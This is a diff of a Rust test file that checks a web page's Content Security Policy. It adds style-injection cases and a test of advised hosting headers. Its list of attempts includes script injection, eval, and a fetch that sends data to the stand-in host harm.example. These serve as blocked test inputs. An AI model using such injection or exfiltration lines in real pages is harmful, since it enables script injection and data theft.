@@ -101,7 +101,7 @@ fn a_whole_day_asks_nobody_but_its_own_host_for_its_own_files() {
 }
 
 /// What the page is made to try, each with the directive that refuses it.
-const TRIES: [(&str, &str); 9] = [
+const TRIES: [(&str, &str); 11] = [
     (
         "script-src",
         "const it = document.createElement('script'); it.textContent = 'window.harmed = 1'; document.body.append(it)",
@@ -117,6 +117,11 @@ const TRIES: [(&str, &str); 9] = [
     ("script-src", "eval('window.harmed = 3')"),
     ("script-src", "new Function('window.harmed = 4')()"),
     ("connect-src", "fetch('https://harm.example/?names=all').catch(() => 0)"),
+    ("style-src-attr", "document.body.setAttribute('style', 'display: none')"),
+    (
+        "style-src-elem",
+        "const it = document.createElement('style'); it.textContent = 'body { display: none }'; document.body.append(it)",
+    ),
     ("img-src", "new Image().src = 'https://harm.example/a.png'"),
     (
         "frame-src",
@@ -144,6 +149,30 @@ fn the_page_refuses_foreign_scripts_and_foreign_hosts() {
         assert_eq!(page.value("window.harmed ?? null").await?, Value::Null);
         // Nothing left the page for a foreign host, not even what was refused.
         assert!(page.requests().await.iter().all(|address| address.starts_with(site.address())));
+        Ok(())
+    });
+}
+
+/// The headers that `docs/hosting.md` asks hosts to send.
+fn advised_headers() -> &'static str {
+    let text = include_str!("../../docs/hosting.md");
+    let block = text.split("```").nth(1).expect("a block of headers");
+    block.trim_start_matches("text").trim()
+}
+
+#[test]
+fn advised_headers_break_nothing_in_a_whole_day() {
+    let site = Site::with_headers(advised_headers());
+    Visit::laptop().run(async |page| {
+        day(page, &site).await?;
+        page.until("navigator.serviceWorker.controller !== null").await?;
+        let names = advised_headers().lines().filter_map(|line| line.split_once(": "));
+        for (name, value) in names {
+            let asked = format!("fetch('./', {{ cache: 'reload' }}).then(it => it.headers.get('{name}'))");
+            let sent = page.value(&asked).await?;
+            // The worker answers without the headers of the host; its own fetch has them.
+            assert!(sent.is_null() || sent == value, "{name}: {sent}");
+        }
         Ok(())
     });
 }
